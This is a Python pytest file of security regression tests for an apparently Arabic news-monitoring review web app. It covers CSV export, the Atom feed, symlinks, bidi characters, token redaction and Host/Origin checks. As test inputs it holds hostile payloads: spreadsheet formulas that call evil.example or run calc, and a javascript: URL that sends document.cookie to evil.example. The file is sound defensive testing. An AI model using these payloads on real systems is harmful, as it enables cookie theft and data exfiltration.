"""Issue 16 on the review side: what a hostile story, a hostile page on another site
and odd requests could do to the review page, its feed and its exports.

Each test is a regression test for one item of the issue (named in its docstring);
all requests go to the app through Starlette's TestClient or to a real uvicorn on
127.0.0.1 started here.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import warnings
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import feedparser
import httpx
import pytest
from click.testing import CliRunner
from lxml import etree

import review_data
from cli.main import _register, cli
from conftest import ROOT
from raqib.items import Flag
from review.app import create_app
from review.security import AUTH_COOKIE
from storage.articles import save_article
from storage.db import open_db
from storage.flags import save_flags
from storage.reviews import get_review

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
_register()


def client_for(path, **kw) -> TestClient:
    return TestClient(create_app(path, **kw), follow_redirects=False, base_url="http://127.0.0.1:8765")


@pytest.fixture
def site(tmp_path):
    path = tmp_path / "review.db"
    ids = review_data.build(path)
    return client_for(path), ids, path


def add_flagged(path, url: str, title: str, body: str = "نص المقال عن التعاون الأمني.", *, author: str = "",
                source: str = "bawaba", terms: tuple[str, ...] = ("التعاون الأمني",)) -> int:
    """Store one flagged article (through the real storage API) and return its id."""
    db = open_db(path)
    a = review_data.article(url, source, title, body, "2024-06-05T09:00:00+01:00")
    a.author = author
    aid, _ = save_article(db, a)
    matches = review_data.find_matches(body, [(t, "cooperation") for t in terms], "body")
    save_flags(db, aid, [Flag("ma_security", "v1abc", 3.0, True, matches, [], [{"rule": "cooperation"}])])
    db.conn.close()
    return aid


def csrf_of(client, url="/") -> str:
    html = client.get(url).text
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


# --- 11: CSV export formula injection --------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"اضغط")', '\'=HYPERLINK("http://evil.example/?x="&A1,"اضغط")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("التعاون الأمني", "التعاون الأمني"),
    ("a=b", "a=b"),
    (["=evil", "ok"], "'=evil; ok"),
    (-1.5, -1.5),
    (3, 3),
    (None, ""),
], ids=["equals", "plus", "minus", "at", "tab", "cr", "arabic", "inner-equals", "list", "negative-number",
        "int", "none"])
def test_csv_cell_defuses_formulas(value, expected):
    from review.export import csv_cell

    assert csv_cell(value) == expected


def test_csv_export_never_starts_a_cell_with_a_formula(site, tmp_path):
    """Item 11: `raqib export --format csv` prefixes formula-looking cells with '."""
    _, _, path = site
    aid = add_flagged(path, "https://bawaba.example.ma/f1", '=HYPERLINK("http://evil.example","اضغط هنا")',
                      author="+cmd|' /C calc'!A0")
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--db", str(path), "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8").lstrip("\ufeff"))))
    row = next(r for r in rows if int(r["id"]) == aid)
    assert row["title"] == '\'=HYPERLINK("http://evil.example","اضغط هنا")'
    assert row["author"] == "'+cmd|' /C calc'!A0"
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# --- 12: 4xx, never 500 ----------------------------------------------------------

@pytest.mark.parametrize("url, status", [
    ("/?q=%22", 200),
    ('/?status=all&q=%22%22%20OR', 200),
    ("/article/{story}?q=%22", 200),
    ("/article/99999999999999999999999", 404),
    ("/article/9223372036854775808", 404),
    ("/?page=99999999999999999999", 400),
    ("/?page=-5", 200),
], ids=["fts-lone-quote", "fts-quotes-or", "article-fts-quote", "huge-id", "id-just-past-int64", "huge-page",
        "negative-page"])
def test_odd_requests_get_an_answer_not_a_500(site, url, status):
    """Item 12: FTS5 syntax in q, ids and pages beyond SQLite's integers."""
    client, ids, _ = site
    client = TestClient(client.app, raise_server_exceptions=False, follow_redirects=False,
                        base_url="http://127.0.0.1:8765")
    r = client.get(url.format(story=ids["story"]))
    assert r.status_code == status, r.text[:300]


def test_search_with_a_quote_finds_the_words(site):
    """Item 12: a query with quotes is searched as words, not rejected."""
    client, ids, _ = site
    r = client.get('/?status=all&q=%22%D8%AD%D9%85%D9%88%D8%B4%D9%8A')   # "حموشي
    assert r.status_code == 200
    assert re.findall(r'<tr class="item" data-id="(\d+)"', r.text) == [str(ids["story"])]


def test_review_of_an_unknown_article_is_404(site):
    """Item 12: POST /article/99999/review is a 404 and writes nothing."""
    client, ids, path = site
    token = csrf_of(client)
    client = TestClient(client.app, raise_server_exceptions=False, follow_redirects=False,
                        base_url="http://127.0.0.1:8765", cookies=client.cookies)
    for aid in (99999, 99999999999999999999999):
        r = client.post(f"/article/{aid}/review", data={"csrf_token": token, "status": "relevant"})
        assert r.status_code == 404, r.text[:300]
        assert str(aid) in r.text
    assert open_db(path).execute("SELECT count(*) FROM reviews").fetchone()[0] == 0


def test_batch_review_with_an_unknown_id_keeps_the_others(site):
    """Item 12: POST /review with one unknown id reports it and marks the rest."""
    client, ids, path = site
    token = csrf_of(client)
    client = TestClient(client.app, raise_server_exceptions=False, follow_redirects=False,
                        base_url="http://127.0.0.1:8765", cookies=client.cookies)
    r = client.post("/review", data={"csrf_token": token, "status": "later", "next": "/?status=later",
                                     "ids": [str(ids["copy"]), "99999", str(ids["old"])]})
    assert r.status_code == 404, r.text[:300]
    message = re.search(r'id="error-message">(.*?)<', r.text).group(1)
    assert "99999" in message and str(ids["copy"]) not in message
    assert 'href="/?status=later"' in r.text                 # the way back the form asked for
    db = open_db(path)
    assert get_review(db, ids["copy"])["status"] == get_review(db, ids["old"])["status"] == "later"


# --- 13: the Atom feed -------------------------------------------------------------

def test_feed_has_no_script_links_and_survives_control_characters(site):
    """Item 13: a javascript:/data: original is left out of the feed; a control
    character in a stored title does not make /feed.atom a 500."""
    client, ids, path = site
    js = add_flagged(path, "javascript:fetch('//evil.example/'+document.cookie)", "عنوان عادي عن التعاون")
    data = add_flagged(path, "data:text/html,<script>alert(1)</script>", "عنوان آخر")
    ctl = add_flagged(path, "https://bawaba.example.ma/c1", "عنوان\x01 فيه\x07 محارف\x1b[31m تحكم\x08",
                      body="نص\x0b فيه التعاون الأمني\x0c هنا.", source="baw\x02aba")
    r = TestClient(client.app, raise_server_exceptions=False, base_url="http://127.0.0.1:8765").get("/feed.atom")
    assert r.status_code == 200, r.text[:300]
    root = etree.fromstring(r.content)   # well-formed XML
    hrefs = [link.get("href") for link in root.iter("{http://www.w3.org/2005/Atom}link")]
    assert all(h.startswith("http://127.0.0.1:8765/") or h.startswith("https://") for h in hrefs), hrefs
    feed = feedparser.parse(r.content)
    assert not feed.bozo, feed.get("bozo_exception")
    by_id = {e.id.rsplit("/", 1)[1]: e for e in feed.entries}
    assert [link.rel for link in by_id[str(js)].links] == ["alternate"]
    assert [link.rel for link in by_id[str(data)].links] == ["alternate"]
    assert by_id[str(ctl)].title == "عنوان فيه محارف[31m تحكم"
    assert {link.rel for link in by_id[str(ids["story"])].links} == {"alternate", "related"}


# --- 14: the tune view and symlinks ----------------------------------------------------

def test_tune_view_refuses_symlinks_and_files_outside_its_folder(site, tmp_path):
    """Item 14: a symlink in the candidates folder is neither listed nor read."""
    client, _, path = site
    cand = tmp_path / "cands"
    cand.mkdir()
    secret = tmp_path / "secret.yaml"
    secret.write_text("root:x:0:0:SECRET-MARKER:/root:/bin/bash\n", encoding="utf-8")
    (cand / "evil.yaml").symlink_to(secret)
    (cand / "inner.yaml").symlink_to(cand / "plain.yaml")
    (cand / "plain.yaml").write_text("not: [a watchlist\n", encoding="utf-8")
    client = client_for(path, candidates_dir=cand)
    page = client.get("/tune")
    assert page.status_code == 200
    assert 'value="candidates/plain.yaml"' in page.text
    assert "candidates/evil.yaml" not in page.text and "candidates/inner.yaml" not in page.text
    for key in ("candidates/evil.yaml", "candidates/inner.yaml"):
        r = client.get("/tune", params={"file": key})
        assert r.status_code == 404
        assert "SECRET-MARKER" not in r.text
    assert client.get("/tune", params={"file": "candidates/plain.yaml"}).status_code == 200


# --- 15: bidi controls in scraped text ---------------------------------------------

RLO, PDF, LRI = "\u202e", "\u202c", "\u2066"
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")


def test_bidi_controls_in_scraped_text_cannot_leak(site, tmp_path):
    """Item 15: a U+202E in a title, author, term, source or body reaches no page as a
    live control, and the byline and terms are isolated (<bdi>)."""
    client, _, path = site
    term = "التعاون" + RLO + "الأمني"
    aid = add_flagged(path, "https://bawaba.example.ma/bidi", RLO + "عنوان معكوس",
                      body=f"نص فيه {term} وفيه {LRI}عزل بلا نهاية و{RLO}تجاوز{PDF}.",
                      author=RLO + "الكاتب", source="baw" + RLO + "aba", terms=(term,))
    pages = {url: client.get(url) for url in ("/?status=all", f"/article/{aid}", "/tune")}
    for url, r in pages.items():
        assert r.status_code == 200, url
        assert not BIDI.search(r.text), (url, BIDI.findall(r.text))
    article = pages[f"/article/{aid}"].text
    assert re.search(r'<bdi class="author">\u200bالكاتب</bdi>', article)
    assert "\u200bتجاوز\u200b" in article          # replaced one for one: offsets still line up
    inbox = pages["/?status=all"].text
    assert re.search(r'<span class="term"><bdi>التعاون\u200bالأمني</bdi>', inbox)
    feed = client.get("/feed.atom").text
    assert not BIDI.search(feed)


# --- 5: tokens out of the logs; per-reader feed tokens -------------------------------

STRONG = "correct-horse-battery-staple-42"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def raqib_serve(db, *args, env=None):
    """`raqib serve` as a real process on a free 127.0.0.1 port; yields (base URL, proc).
    Its output is read after it stops (``proc.output``)."""
    port = free_port()
    full_env = {**os.environ, "PYTHONPATH": str(ROOT), "RAQIB_SERVE_PORT": str(port), **(env or {})}
    proc = subprocess.Popen([sys.executable, "-m", "cli", "serve", "--db", str(db), *args],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=full_env, cwd=ROOT)
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:  # readiness poll of a real server
            if proc.poll() is not None:
                pytest.fail(f"raqib serve exited {proc.returncode}: {proc.stdout.read()}")
            try:
                if httpx.get(base + "/healthz", headers={"Authorization": f"Bearer {STRONG}"}, timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            if time.monotonic() > deadline:
                pytest.fail("raqib serve did not start")
            time.sleep(0.1)
        yield base, proc
    finally:
        proc.send_signal(signal.SIGINT)
        try:
            proc.output = proc.communicate(timeout=30)[0]
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.output = proc.communicate()[0]


def test_access_log_never_shows_a_token(site):
    """Item 5: uvicorn's access log (a real `raqib serve`) records ?token= redacted."""
    _, _, path = site
    with raqib_serve(path, env={"RAQIB_ACCESS_TOKEN": STRONG}) as (base, proc):
        assert httpx.get(f"{base}/?token={STRONG}&status=all").status_code == 303
        assert httpx.get(f"{base}/feed.atom?token={STRONG}").status_code == 200
        assert httpx.get(f"{base}/feed.atom?token=wrong-guess").status_code == 401
    out = proc.output
    assert "GET /feed.atom?token=*** HTTP/1.1" in out, out[-2000:]      # the access log is there…
    assert "GET /?token=***&status=all HTTP/1.1" in out, out[-2000:]
    assert STRONG not in out and "wrong-guess" not in out               # …without secrets


def test_feed_tokens_open_only_the_feed_and_can_be_revoked(site):
    """Item 5: `raqib feed-token create/list/revoke`; a feed token opens /feed.atom only."""
    _, ids, path = site
    created = CliRunner().invoke(cli, ["feed-token", "create", "newsroom reader", "--db", str(path)])
    assert created.exit_code == 0, created.output
    token = created.stdout.strip().splitlines()[0]
    client = client_for(path, access_token=STRONG)
    assert client.get(f"/feed.atom?token={token}").status_code == 200
    assert client.get("/feed.atom", headers={"Authorization": f"Bearer {token}"}).status_code == 200
    for url in ("/", f"/?token={token}", f"/article/{ids['story']}?token={token}", f"/tune?token={token}"):
        assert client.get(url).status_code == 401, url
    assert client.get(f"/article/{ids['story']}", headers={"Authorization": f"Bearer {token}"}).status_code == 401
    listed = CliRunner().invoke(cli, ["feed-token", "list", "--json", "--db", str(path)])
    (row,) = [json.loads(line) for line in listed.stdout.splitlines()]
    assert row["label"] == "newsroom reader" and row["revoked_at"] is None and token not in listed.stdout
    revoked = CliRunner().invoke(cli, ["feed-token", "revoke", str(row["id"]), "--db", str(path)])
    assert revoked.exit_code == 0, revoked.output
    assert client.get(f"/feed.atom?token={token}").status_code == 401
    assert client.get(f"/feed.atom?token={STRONG}").status_code == 200          # the page's token still works
    unknown = CliRunner().invoke(cli, ["feed-token", "revoke", "99", "--db", str(path)])
    assert unknown.exit_code == 1 and "feed token 99: no such token" in unknown.output


# --- 6: Host and Origin -----------------------------------------------------------

@pytest.mark.parametrize("bind, public, host, ok", [
    ("127.0.0.1", "", "127.0.0.1:8765", True),
    ("127.0.0.1", "", "localhost:8765", True),
    ("127.0.0.1", "", "[::1]:8765", True),
    ("127.0.0.1", "", "evil.example", False),
    ("127.0.0.1", "", "evil.example:8765", False),
    ("127.0.0.1", "", "10.1.2.3", False),
    ("127.0.0.1", "", "", False),
    ("127.0.0.1", "review.example.org", "review.example.org", True),
    ("127.0.0.1", "review.example.org", "REVIEW.example.org.:443", True),
    ("0.0.0.0", "", "192.168.1.5:8765", True),
    ("0.0.0.0", "", "rebind.evil.example:8765", False),
    ("192.168.1.5", "", "192.168.1.5:8765", True),
    ("192.168.1.5", "", "localhost:8765", False),
    ("review.lan", "", "review.lan:8765", True),
], ids=["loopback-ip", "localhost", "ipv6-loopback", "evil", "evil-with-port", "other-ip", "empty", "public-name",
        "public-name-case-dot", "wildcard-ip", "wildcard-name", "lan-ip", "lan-localhost", "bound-name"])
def test_host_policy(bind, public, host, ok):
    from review.hosts import HostPolicy

    assert HostPolicy(bind, [public] if public else []).host_ok(host) is ok


def test_foreign_host_header_is_refused(site):
    """Item 6: DNS rebinding — a request naming another host gets 400, and the feed
    never links to a host the page was not configured for."""
    client, _, path = site
    for url in ("/", "/feed.atom", "/tune"):
        assert client.get(url, headers={"Host": "evil.example"}).status_code == 400, url
        assert client.get(url, headers={"Host": "evil.example:8765"}).status_code == 400, url
    assert client.get("/", headers={"Host": "localhost:8765"}).status_code == 200
    proxied = TestClient(create_app(path, public_names=["review.example.org"]), base_url="https://review.example.org")
    feed = proxied.get("/feed.atom")
    assert feed.status_code == 200
    assert 'href="https://review.example.org/feed.atom"' in feed.text


@pytest.mark.parametrize("headers, status", [
    ({"Origin": "http://evil.example"}, 403),
    ({"Origin": "http://127.0.0.1:9999"}, 403),
    ({"Origin": "null"}, 403),
    ({"Referer": "http://evil.example/page"}, 403),
    ({"Origin": "http://127.0.0.1:8765"}, 303),
    ({"Referer": "http://127.0.0.1:8765/?status=all"}, 303),
    ({}, 303),
], ids=["evil-origin", "other-port", "null-origin", "evil-referer", "same-origin", "same-referer", "no-browser"])
def test_state_changes_need_same_origin(site, headers, status):
    """Item 6: a POST with a valid CSRF cookie and token from another origin is refused."""
    client, ids, path = site
    token = csrf_of(client)
    r = client.post(f"/article/{ids['story']}/review", data={"csrf_token": token, "status": "relevant"},
                    headers=headers)
    assert r.status_code == status
    r2 = client.post("/review", data={"csrf_token": token, "status": "relevant", "ids": [str(ids["copy"])]},
                     headers=headers)
    assert r2.status_code == status
    db = open_db(path)
    written = get_review(db, ids["story"]) is not None and get_review(db, ids["copy"]) is not None
    assert written is (status == 303)


# --- 7: secrets in settings, logs, alerts, status ----------------------------------------

@pytest.mark.parametrize("text, expected", [
    ("https://alice:hunter2@hooks.example/x?key=SECRET&page=2", "https://***@hooks.example/x?key=***&page=2"),
    ("GET /feed.atom?token=abc123 HTTP/1.1", "GET /feed.atom?token=*** HTTP/1.1"),
    ("http://h/a?api_key=1;sig=2#frag", "http://h/a?api_key=***;sig=***#frag"),
    ("http://h/a?X-Amz-Signature=ff&X-Amz-Credential=cc", "http://h/a?X-Amz-Signature=***&X-Amz-Credential=***"),
    ("http://h/a?access_token=&q=x", "http://h/a?access_token=&q=x"),
    ("fetch failed: https://u@h/p?password=pw", "fetch failed: https://***@h/p?password=***"),
    ("http://h/news?page=2&id=5", "http://h/news?page=2&id=5"),
    ("write to raqib@localhost", "write to raqib@localhost"),
    ("", ""),
], ids=["userinfo-and-key", "access-log", "semicolons", "aws", "empty-value", "in-a-sentence", "harmless",
        "e-mail", "empty"])
def test_redact_text(text, expected):
    from raqib.redact import redact_text

    assert redact_text(text) == expected


WEBHOOK_SECRETS = ("alice", "hunter2", "SECRETKEY")


def test_settings_hide_url_credentials_and_keys(tmp_path):
    """Item 7: `raqib settings` shows webhook_url without its user, password and key."""
    env = {"RAQIB_WEBHOOK_URL": "https://alice:hunter2@127.0.0.1:9/hook?key=SECRETKEY",
           "RAQIB_ACCESS_TOKEN": STRONG}
    result = CliRunner().invoke(cli, ["settings"], env=env)
    assert result.exit_code == 0, result.output
    assert "webhook_url = 'https://***@127.0.0.1:9/hook?key=***'" in result.output
    for secret in (*WEBHOOK_SECRETS, STRONG):
        assert secret not in result.output


def test_alert_errors_and_logs_hide_the_webhook_secrets(site, caplog):
    """Item 7: a failing webhook's errors (logged, stored, returned) carry no secret."""
    from review.alerts import dispatch_pending

    _, _, path = site

    class Failing(BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(500)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Failing)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://alice:hunter2@127.0.0.1:{server.server_port}/hook?key=SECRETKEY"
    try:
        with caplog.at_level(logging.WARNING, logger="review.alerts"):
            stats = dispatch_pending(open_db(path), {"webhook_url": url}, sleep=lambda s: None, tries=1)
    finally:
        server.shutdown()
        server.server_close()
    assert stats.retried == {"webhook": 3}                           # one alert per story
    stored = [r[0] for r in open_db(path).execute("SELECT last_error FROM alerts")]
    texts = {"log": caplog.text, "errors": json.dumps(stats.errors), "stored": json.dumps(stored)}
    assert "HTTP 500 from http://***@127.0.0.1" in texts["errors"]
    for where, text in texts.items():
        for secret in WEBHOOK_SECRETS:
            assert secret not in text, (where, secret, text[:500])


def test_status_and_log_lines_hide_url_secrets(site, tmp_path, capsys):
    """Item 7: `raqib status` and every log line redact URL credentials and keys."""
    from cli import logs
    from storage.runs import finish_run, start_run

    _, _, path = site
    db = open_db(path)
    run_id = start_run(db, "c1", "akhbar")
    finish_run(db, run_id, status="failed", errors=[
        {"url": "https://bob:pw123@feeds.example/rss?apikey=SECRETKEY", "error": "HTTP 403 from"
         " https://bob:pw123@feeds.example/rss?apikey=SECRETKEY"}])
    result = CliRunner().invoke(cli, ["status", "--json", "--db", str(path)])
    assert "HTTP 403 from https://***@feeds.example/rss?apikey=***" in result.output, result.output
    assert "SECRETKEY" not in result.output and "pw123" not in result.output
    logs.configure(0, str(tmp_path / "raqib.log"))
    try:
        logging.getLogger("spiders.base").warning("akhbar: feed %s failed: %s",
                                                  "https://bob:pw123@feeds.example/rss?apikey=SECRETKEY", "HTTP 403")
    finally:
        for h in list(logging.getLogger().handlers):
            h.flush()
        logs.configure(0)
    err = capsys.readouterr().err
    logged = (tmp_path / "raqib.log").read_text(encoding="utf-8")
    for text in (err, logged):
        assert "feed https://***@feeds.example/rss?apikey=*** failed: HTTP 403" in text, text
        assert "SECRETKEY" not in text and "pw123" not in text


# --- 16: weak tokens, signed login cookie, 127/8 as loopback ----------------------------

@pytest.mark.parametrize("host, token, ok", [
    ("0.0.0.0", " ", False),
    ("0.0.0.0", "short-token", False),
    ("0.0.0.0", " " * 20, False),
    ("0.0.0.0", STRONG, True),
    ("127.1", "", True),
    ("127.255.0.9", "", True),
    ("0x7f.1", "", True),
    ("::ffff:127.0.0.1", "", True),
    ("::1", "", True),
    ("128.0.0.1", "", False),
], ids=["one-space", "short", "blank", "strong", "127.1", "127-slash-8", "hex-short-form", "v4-mapped", "ipv6",
        "not-127"])
def test_check_bind_tokens_and_loopback(host, token, ok):
    """Item 16: weak tokens refused off loopback; every loopback spelling accepted."""
    from raqib.errors import ConfigError
    from review.security import check_bind

    if ok:
        check_bind(host, token)
    else:
        with pytest.raises(ConfigError, match=r"access token|at least 16"):
            check_bind(host, token)


def test_serve_accepts_127_1_as_loopback(site):
    """Item 16: `raqib serve --host 127.1` starts without a token (it is loopback)."""
    _, _, path = site
    with raqib_serve(path, "--host", "127.1", env={"RAQIB_ACCESS_TOKEN": ""}) as (base, _):
        assert httpx.get(base + "/").status_code == 200


def test_login_cookie_is_signed_with_a_server_secret(site, tmp_path):
    """Item 16: the old cookie value (a bare SHA-256 of the token) no longer logs in;
    the signed cookie survives a restart and dies with a token change."""
    _, _, path = site
    client = client_for(path, access_token=STRONG)
    bare = hashlib.sha256(("raqib-auth:" + STRONG).encode()).hexdigest()
    client.cookies.set(AUTH_COOKIE, bare)
    assert client.get("/").status_code == 401
    client.cookies.clear()
    login = client.get(f"/?token={STRONG}")
    assert login.status_code == 303
    cookie = login.cookies[AUTH_COOKIE]
    assert cookie != bare and STRONG not in cookie
    restarted = client_for(path, access_token=STRONG)
    restarted.cookies.set(AUTH_COOKIE, cookie)
    assert restarted.get("/").status_code == 200                      # secret persisted next to the database
    secret_file = path.parent / ".raqib" / "review-secret"
    assert secret_file.stat().st_mode & 0o777 == 0o600
    rotated = client_for(path, access_token=STRONG + "-rotated")
    rotated.cookies.set(AUTH_COOKIE, cookie)
    assert rotated.get("/").status_code == 401
    other_db = tmp_path / "other" / "r.db"
    review_data.build(other_db)
    elsewhere = client_for(other_db, access_token=STRONG)
    elsewhere.cookies.set(AUTH_COOKIE, cookie)
    assert elsewhere.get("/").status_code == 401                      # another server's secret
